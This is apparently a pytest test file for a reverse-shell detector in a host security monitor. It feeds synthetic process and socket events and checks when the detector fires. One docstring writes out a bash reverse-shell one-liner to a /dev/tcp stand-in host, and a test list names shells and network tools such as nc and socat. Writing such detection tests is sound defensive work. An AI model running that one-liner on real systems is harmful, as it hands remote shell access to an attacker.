# SPDX-License-Identifier: Apache-2.0
"""Each form of a shell on a network connection is one hit; services and local sockets are none."""

from __future__ import annotations

from typing import Any

import pytest
from innerwarden_core import Hit

from innerwarden.model._wire import ExecFlag
from tests.factory import encode, start_of
from tests.unit.core.detectors.support import engine_with, fork, start

STDIO = int(ExecFlag.STDIN_SOCKET | ExecFlag.STDOUT_SOCKET | ExecFlag.STDERR_SOCKET)
PEER: dict[str, Any] = {"stdio_peer_family": 2, "stdio_peer_ip": "127.0.0.1", "stdio_peer_port": 4444}


def run(*records: bytes, **parameters: int) -> list[Hit]:
    return engine_with("reverse_shell", **parameters).feed(b"".join(records))


def redirect(pid: int, at_s: float, new_fd: int = 0, **fields: Any) -> bytes:
    values = {"family": 2, "peer_ip": "192.0.2.9", "peer_port": 4444, "old_fd": 3, **fields}
    return encode("process.fd_redirect", at_s, pid=pid, new_fd=new_fd, **values)


def redirects(pid: int, at_s: float, **fields: Any) -> bytes:
    return b"".join(redirect(pid, at_s, fd, **fields) for fd in range(3))


@pytest.mark.parametrize(
    "exe",
    [
        "/usr/bin/bash",
        "/bin/sh",
        "/usr/bin/dash",
        "/opt/x/busybox",
        "/usr/bin/python3.11",
        "/usr/bin/perl5.36",
        "/usr/bin/perl",
        "/usr/bin/php8.2",
        "/usr/bin/nc.traditional",
        "/usr/bin/socat",
        "/usr/bin/gawk",
    ],
)
def test_a_shell_or_interpreter_starts_on_a_socket(exe: str) -> None:
    (hit,) = run(start(50, 1, exe, exec_flags=STDIO, **PEER))
    assert hit.samples == ("socket_on_stdio", "127.0.0.1:4444")
    assert (hit.group, hit.related) == (("50",), None)


def test_ipv6_peers_are_written_in_brackets() -> None:
    peer: dict[str, Any] = {"stdio_peer_family": 10, "stdio_peer_ip": "2001:db8::5", "stdio_peer_port": 22}
    (hit,) = run(start(50, 1, "/bin/sh", exec_flags=STDIO, **peer))
    assert hit.samples[1] == "[2001:db8::5]:22"


@pytest.mark.parametrize(
    ("exe", "fields"),
    [
        ("/bin/sh", {"stdio_peer_family": 1}),  # systemd and sshd give local sockets
        ("/bin/sh", {**PEER, "stdio_peer_port": 0}),  # not connected
        ("/bin/sh", {**PEER, "exec_flags": int(ExecFlag.STDERR_SOCKET)}),
        ("/bin/sh", {**PEER, "exec_flags": 0}),
        ("/usr/sbin/sshd", PEER),  # socket activation
        ("/usr/sbin/in.ftpd", PEER),
        ("/usr/lib/git-core/git-upload-pack", PEER),
        ("/usr/bin/python3-config", PEER),
        ("/usr/bin/shred", PEER),
        ("/usr/bin/ncdu", PEER),
    ],
)
def test_what_is_no_reverse_shell(exe: str, fields: dict[str, Any]) -> None:
    assert run(start(50, 1, exe, **{"exec_flags": STDIO, **fields})) == []


def test_a_running_shell_that_redirects_itself_is_one_hit() -> None:
    """bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"""
    (hit,) = run(start(50, 1, "/bin/bash"), redirects(50, 1.0))
    assert hit.samples == ("shell_redirects", "192.0.2.9:4444")


def test_a_program_redirects_and_becomes_a_shell() -> None:
    hits = run(
        start(50, 1, "/usr/bin/python3"),
        redirects(50, 1.0),
        encode("process.exec", 1.1, pid=50, exe_path="/bin/sh", exec_flags=STDIO, **PEER),
    )
    assert [h.samples[0] for h in hits] == ["socket_on_stdio"]


def test_a_program_redirects_and_its_child_is_a_shell_on_a_terminal() -> None:
    """pty.spawn: the shell's descriptors are a terminal, its parent pumps."""
    (hit,) = run(
        start(50, 1, "/usr/bin/python3"),
        redirects(50, 1.0),
        start(51, 50, "/bin/bash", 2.0, tty_dev=142606336),
    )
    assert hit.samples == ("redirect_then_shell", "192.0.2.9:4444")
    assert (hit.group, hit.related) == (("50",), (50, start_of(50)))


def test_a_grandchild_counts_within_levels() -> None:
    tree = [
        start(50, 1, "/opt/implant"),
        redirects(50, 1.0),
        fork(51, 50, 1.0),
        start(52, 51, "/bin/sh", 2.0),
    ]
    assert len(run(*tree)) == 1
    assert run(*tree, levels=1) == []


def test_a_program_redirects_after_its_child_became_a_shell() -> None:
    (hit,) = run(start(50, 1, "/opt/implant"), start(51, 50, "/bin/sh", 1.0), redirects(50, 2.0))
    assert hit.samples[0] == "shell_then_redirect"


def test_the_window_ends() -> None:
    assert run(start(50, 1, "/opt/x"), redirects(50, 1.0), start(51, 50, "/bin/sh", 100.0)) == []
    assert run(start(50, 1, "/opt/x"), start(51, 50, "/bin/sh", 1.0), redirects(50, 100.0)) == []


def test_a_service_that_takes_over_the_socket_ends_the_suspicion() -> None:
    """inetd forks, redirects, executes the service; a login shell below it is not ours to judge."""
    service = encode("process.exec", 1.1, pid=51, ppid=50, exe_path="/usr/sbin/in.telnetd")
    assert (
        run(
            start(50, 1, "/usr/sbin/inetd"),
            fork(51, 50, 1.0),
            redirects(51, 1.0),
            service,
            start(52, 51, "/bin/bash", 2.0, tty_dev=1),
        )
        == []
    )


@pytest.mark.parametrize("fields", [{"family": 1}, {"peer_port": 0}])
def test_other_sockets_are_no_peers(fields: dict[str, Any]) -> None:
    assert run(start(50, 1, "/bin/bash"), redirects(50, 1.0, **fields)) == []


def test_one_process_tree_is_one_hit() -> None:
    """nc runs sh, sh runs python, python runs bash, all on the same socket."""
    engine = engine_with("reverse_shell")
    hits = engine.feed(
        start(50, 1, "/usr/bin/python3")
        + redirects(50, 1.0)
        + start(51, 50, "/bin/sh", 1.1, exec_flags=STDIO, **PEER)
        + start(52, 51, "/usr/bin/python3", 2.0, exec_flags=STDIO, **PEER)
        + start(53, 52, "/bin/bash", 3.0, exec_flags=STDIO, **PEER)
    )
    assert len(hits) == 1
    assert hits[0].related == (50, start_of(50))
    assert engine.stats()["suppressed"] == 2


def test_two_trees_are_two_hits_and_the_same_tree_again_after_the_cooldown() -> None:
    flags: dict[str, Any] = {"exec_flags": STDIO, **PEER}
    engine = engine_with("reverse_shell", cooldown_s=30)
    assert len(engine.feed(start(50, 1, "/bin/sh", **flags) + start(60, 1, "/bin/sh", 1.0, **flags))) == 2
    (again,) = engine.feed(encode("process.exec", 40.0, pid=50, exe_path="/bin/sh", **flags))
    assert again.group == ("50",)


def test_a_reused_pid_does_not_inherit_the_suspicion() -> None:
    old = start(50, 1, "/opt/x") + redirects(50, 1.0) + encode("process.exit", 1.5, pid=50)
    new_start = start_of(50) + 10**12
    new = encode("process.exec", 2.0, pid=50, start_ns=new_start, exe_path="/bin/sh")
    assert run(old, new) == []
